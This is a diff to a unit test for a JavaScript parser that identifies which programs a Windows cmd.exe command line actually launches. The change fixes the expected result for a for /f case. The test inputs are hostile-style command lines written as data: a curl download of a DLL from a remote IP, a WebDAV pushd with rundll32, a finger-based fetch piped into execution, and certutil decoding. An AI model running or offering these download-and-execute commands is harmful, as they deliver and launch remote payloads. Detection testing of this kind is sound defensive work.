@@ -8,7 +8,8 @@ describe('programRuns: the programs a quoted command line really starts', () => 
       ['curl.exe', 'curl.exe -o C:\\Users\\Public\\a.dll http://203.0.113.5/a'],
     ]);
     expect(images('cmd /v/c pushd \\\\203.0.113.5@SSL\\ & rundll32 gc.key,#1')).toEqual([['rundll32.exe', 'rundll32 gc.key,#1']]);
-    expect(images("for /f \"tokens=*\" %%a in ('finger gate@203.0.113.9') do call %%a")).toEqual([]);
+    // cmd.exe runs the quoted command of `for /f … in ('…')` before the body (here only a built-in).
+    expect(images("for /f \"tokens=*\" %%a in ('finger gate@203.0.113.9') do call %%a")).toEqual([['finger.exe', 'finger gate@203.0.113.9']]);
     expect(images('for /f %i in (list.txt) do certutil -decode %i out.bin')).toEqual([['certutil.exe', 'certutil -decode %i out.bin']]);
   });
 
